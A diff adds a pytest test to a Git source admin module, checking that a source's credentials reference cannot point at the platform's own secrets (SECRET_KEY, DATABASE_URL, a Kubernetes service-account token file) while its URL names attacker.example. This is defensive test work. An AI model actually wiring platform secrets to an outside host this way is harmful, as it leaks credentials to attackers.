@@ -121,6 +121,19 @@ def test_every_problem_is_named_by_field_and_nothing_is_stored(repo):
         source_admin.source_add(name="empty", url=repo.url, allowed_namespaces=[" "])
 
 
+@pytest.mark.parametrize(
+    "reference",
+    ["env:SECRET_KEY", "env:DATABASE_URL", "file:/var/run/secrets/kubernetes.io/serviceaccount/token"],
+)
+def test_an_admin_cannot_point_a_sources_credentials_at_the_platforms_own_secrets(repo, reference):
+    # Sent as Basic authentication to whatever host the URL names, they would leave with the next fetch.
+    source = source_admin.source_add(name="shop", url=repo.url, allowed_namespaces=["team-*"])
+    with pytest.raises(SourceSettingsError) as raised:
+        source_admin.source_update(source, url="https://attacker.example/r.git", credentials_ref=reference)
+    assert "not a Git credential" in raised.value.problems["credentials_ref"][0]
+    assert Source.objects.get(pk=source.pk).credentials_ref == ""
+
+
 def test_add_update_suspend_resume_leave_one_audit_row_each_with_before_and_after(repo, people):
     actor = Actor.of_user(_admin(people), AuditVia.API)
     source = source_admin.source_add(
